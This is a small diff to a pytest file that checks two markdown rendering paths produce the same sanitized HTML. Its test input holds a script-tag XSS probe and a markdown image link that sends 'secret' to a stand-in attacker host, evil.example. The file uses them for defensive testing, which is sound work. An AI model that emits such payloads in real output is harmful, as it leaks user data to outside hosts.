@@ -10,7 +10,7 @@ from switchboard.chat.render import INLINE_CHARS, render_markdown, rendered
 
 @pytest.mark.parametrize("length", [INLINE_CHARS - 10, INLINE_CHARS, INLINE_CHARS + 1, 5 * INLINE_CHARS])
 async def test_both_paths_give_the_same_clean_html(length):
-    head = 'Hi **there** <script>alert(1)</script> ![x](https://evil.example/leak?q=secret) '
+    head = "Hi **there** <script>alert(1)</script> ![x](https://evil.example/leak?q=secret) "
     text = (head + "word " * length)[:length]
     html = await rendered(text)
     assert html == render_markdown(text)
